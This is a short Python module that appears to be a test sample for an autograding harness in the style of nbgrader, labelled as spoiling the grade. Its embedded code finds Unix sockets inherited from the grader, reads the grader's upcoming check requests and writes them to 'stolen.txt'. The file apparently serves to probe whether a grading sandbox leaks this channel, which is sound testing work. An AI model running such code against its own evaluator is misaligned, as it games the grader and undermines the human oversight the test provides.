"""Reads the requests that come after its own from the channel, to know the check before it answers."""

FAMILY = "channels"
HONEST = 2
PLAIN = "absent: plain nbgrader's kernel has no such channel"
SPOILS = True
CODE = """
import os
import socket
import stat
import struct


def inherited():
    for name in os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                found = socket.socket(fileno=os.dup(int(name)))
                if found.family == socket.AF_UNIX:
                    yield int(name), found
        except OSError:
            pass


def frame(kind, payload):
    return struct.pack(">L", len(payload) + 1) + kind + payload

import threading


def steal(channel):
    while data := channel.recv(65536):
        with open("stolen.txt", "ab") as file:
            file.write(data)
        print(data)


for number, channel in inherited():
    threading.Thread(target=steal, args=[channel], daemon=True).start()
"""
